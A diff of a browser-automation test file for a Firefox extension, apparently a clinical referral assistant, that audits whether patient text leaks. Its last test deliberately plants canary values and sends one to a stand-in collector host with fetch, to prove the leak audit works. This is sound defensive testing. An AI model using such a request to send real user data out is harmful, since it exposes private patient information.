@@ -1,40 +1,20 @@
-import puppeteer, { type Browser, type Page } from 'puppeteer-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { defaultSettings } from '../../../lib/settings.ts';
-import { ensureBuild, firefoxBuild } from '../../../scripts/ensure-build.ts';
-import { findFirefox } from '../../../scripts/find-browser.ts';
 import { startHostile } from '../../hostile/start.ts';
 import type { Loopback } from '../../loopback.ts';
+import { type FirefoxStage, openFirefox } from '../firefox-stage.ts';
 import { foreignRequests, keptByExtension, leaksIn, type Traces } from './audit.ts';
 import { type LoggingProxy, startLoggingProxy } from './logging-proxy.ts';
 
-const host = '5d1c9a4e-0c1b-4b0e-9c38-7a3c1f6a0d22';
-const addresses = JSON.stringify({ 'massage-referral-assistant@clinic.example': host });
-
 let site: Loopback;
 let proxy: LoggingProxy;
-let browser: Browser;
-let options: Page;
+let stage: FirefoxStage;
 let printed = '';
 
-/** Firefox does not tell the driver that a page of an extension was loaded: what stands on it does. */
-async function open(path: string): Promise<Page> {
-  const page = await browser.newPage();
-  await page.goto(`moz-extension://${host}/${path}`, { timeout: 500 }).catch(() => undefined);
-  await page.waitForSelector('h1');
-  return page;
-}
-
 beforeAll(async () => {
-  ensureBuild(firefoxBuild);
   site = await startHostile();
   proxy = await startLoggingProxy();
-  browser = await puppeteer.launch({
-    browser: 'firefox',
-    executablePath: findFirefox(),
-    args: ['--remote-allow-system-access'],
-    extraPrefsFirefox: {
-      'extensions.webextensions.uuids': addresses,
+  stage = await openFirefox({
+    prefs: {
       'network.proxy.type': 1,
       'network.proxy.http': '127.0.0.1',
       'network.proxy.http_port': proxy.port,
@@ -46,35 +26,30 @@ beforeAll(async () => {
       'devtools.console.stdout.chrome': true,
     },
   });
-  for (const stream of [browser.process()?.stdout, browser.process()?.stderr])
+  const { stdout, stderr } = stage.browser.process() ?? {};
+  for (const stream of [stdout, stderr])
     stream?.on('data', (part: Buffer) => {
       printed += part.toString('utf8');
     });
-  await browser.installExtension(firefoxBuild);
-  options = await open('options.html');
-  const settings = { ...defaultSettings, sites: ['http://127.0.0.1/*'] };
-  await options.evaluate(`browser.storage.local.set(${JSON.stringify({ settings })})`);
 });
 afterAll(async () => {
-  await browser?.close();
+  await stage?.close();
   await proxy?.close();
   await site?.close();
 });
 
 const traces = async (): Promise<Traces> => ({
-  ...((await options.evaluate(keptByExtension)) as Traces),
+  ...((await stage.options.evaluate(keptByExtension)) as Traces),
   console: printed,
   requests: proxy.requests.join('\n'),
 });
 
 describe('a patient’s words in Firefox', () => {
   it('pass through every flow', async () => {
-    const page = await browser.newPage();
+    const page = await stage.browser.newPage();
     await page.goto(`${site.url}/29-canary-chart.html`);
-    const tabId = await options.evaluate(
-      `browser.tabs.query({}).then((tabs) => tabs.find(({ url }) => url === ${JSON.stringify(page.url())}).id)`,
-    );
-    const sidebar = await open(`sidepanel.html?tab=${tabId}`);
+    const tabId = await stage.tabIdOf(page.url());
+    const sidebar = await stage.sidebarFor(page.url());
     await sidebar.waitForSelector('[data-state="report"]');
     const insert = await sidebar.waitForSelector('[data-rule="duration-stated"] [data-shortcut="Enter"]');
     await insert?.click();
@@ -90,7 +65,7 @@ describe('a patient’s words in Firefox', () => {
       `browser.runtime.sendMessage({ type: 'dismiss', tabId: ${tabId}, rule: 'goals-measurable' }).then(({ ok }) => ok)`,
     );
     expect(dismissed).toBe(true);
-    const papers = await open(`document.html?tab=${tabId}`);
+    const papers = await stage.open(`document.html?tab=${tabId}`);
     await papers.waitForSelector('[data-paper] textarea');
     await papers.type('[data-paper] textarea', 'canary-noted by hand');
   });
@@ -113,14 +88,14 @@ describe('a patient’s words in Firefox', () => {
   });
 
   it('and a leak would be found', async () => {
-    await options.evaluate(`(async () => {
+    await stage.options.evaluate(`(async () => {
       await browser.storage.local.set({ leak: 'Zebulon' });
       await browser.storage.session.set({ leak: 'CNRY-77310' });
       console.log('canary-pasted');
       document.title = 'canary-noted';
       (await browser.runtime.getBackgroundPage())?.console.warn('Canaryfield');
     })()`);
-    const [page] = (await browser.pages()).filter((each) => each.url().startsWith(site.url));
+    const [page] = (await stage.browser.pages()).filter((each) => each.url().startsWith(site.url));
     await page?.evaluate(() =>
       fetch('http://collect.example/?said=canary-yellow', { mode: 'no-cors' }).catch(() => null),
     );
